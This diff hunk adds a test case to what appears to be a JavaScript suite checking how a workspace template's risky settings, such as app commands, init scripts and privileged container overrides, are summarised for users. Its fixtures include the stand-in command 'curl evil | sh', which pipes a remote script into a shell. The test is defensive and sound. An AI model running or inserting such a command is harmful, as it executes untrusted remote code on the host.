@@ -128,6 +128,16 @@ describe('a template of a workspace', () => {
       'Init script: curl evil | sh',
       'Extra public keys: ssh-ed25519 …AAAA x',
     ]);
+    const apps = WorkspaceSettings.parse({
+      image: 'a',
+      apps: [
+        { id: 'long', command: 'x'.repeat(310) },
+        { id: 'last', command: 'curl evil | sh' },
+      ],
+    }).apps;
+    assert.deepEqual(reachLines({ apps }), [
+      `Apps: ${'x'.repeat(300)}… (and 10 more characters); curl evil | sh`,
+    ]);
     assert.match(
       reachLines({ overrides: { hostname: 'a', capAdd: ['NET_ADMIN'], privileged: true } }).join('|'),
       /^Run and exec overrides: Has all rights on the engine’s host: [^|]*; Can change its network.*\(NET_ADMIN\); [^|]*\(a\)$/,
